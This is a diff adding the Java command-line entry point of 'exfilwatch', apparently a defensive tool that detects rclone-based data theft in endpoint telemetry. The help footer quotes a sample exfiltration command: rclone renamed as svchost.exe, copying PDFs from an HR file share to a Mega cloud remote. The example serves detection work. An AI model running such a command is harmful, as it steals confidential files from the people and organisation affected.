@@ -1,0 +1,81 @@
+package exfilwatch.cli;
+
+import exfilwatch.job.SetupException;
+import java.io.PrintWriter;
+import picocli.CommandLine;
+import picocli.CommandLine.Command;
+import picocli.CommandLine.IExecutionExceptionHandler;
+import picocli.CommandLine.ParseResult;
+
+/** Entry point of {@code jobs/exfilwatch} and of {@code flink run}. */
+@Command(
+    name = "exfilwatch",
+    mixinStandardHelpOptions = true,
+    version = "exfilwatch 1.0",
+    description = "Finds data theft with rclone in endpoint telemetry.",
+    synopsisSubcommandLabel = "COMMAND",
+    subcommands = {
+      HuntCommand.class,
+      DetectCommand.class,
+      DecodeCommand.class,
+      ExplainCommand.class,
+      CheckCommand.class
+    },
+    footer = {
+      "",
+      "Examples:",
+      "  exfilwatch hunt jobs/sample",
+      "  exfilwatch explain -- 'svchost.exe copy \\\\fs\\hr mega:x --include *.pdf'",
+      "  exfilwatch check"
+    })
+public final class Main {
+
+  static final int OK = 0;
+  static final int FAILED = 1;
+  static final int USAGE = 2;
+  static final int ALERTED = 3;
+
+  private Main() {}
+
+  public static void main(String[] args) {
+    System.exit(run(args));
+  }
+
+  /** Runs one command and returns its exit code. */
+  static int run(String... args) {
+    CommandLine commandLine = new CommandLine(new Main());
+    commandLine.setExecutionExceptionHandler(new OneLine());
+    commandLine.setCaseInsensitiveEnumValuesAllowed(true);
+    return commandLine.execute(args);
+  }
+
+  /** A user's mistake is told in one line; only a fault of this program shows its stack. */
+  private static final class OneLine implements IExecutionExceptionHandler {
+
+    @Override
+    public int handleExecutionException(
+        Exception failure, CommandLine commandLine, ParseResult parsed) {
+      PrintWriter err = commandLine.getErr();
+      if (failure instanceof SetupException) {
+        failure.getMessage().lines().forEach(line -> err.println("exfilwatch: " + line));
+        return USAGE;
+      }
+      err.println("exfilwatch: " + commandLine.getCommandName() + " failed: " + rootOf(failure));
+      if (System.getenv("EXFILWATCH_DEBUG") != null) {
+        failure.printStackTrace(err);
+      }
+      return FAILED;
+    }
+
+    private static String rootOf(Throwable failure) {
+      Throwable root = failure;
+      while (root.getCause() != null && root.getCause() != root) {
+        root = root.getCause();
+      }
+      String message = root.getMessage();
+      return message == null
+          ? root.getClass().getSimpleName()
+          : message.lines().findFirst().orElse("");
+    }
+  }
+}
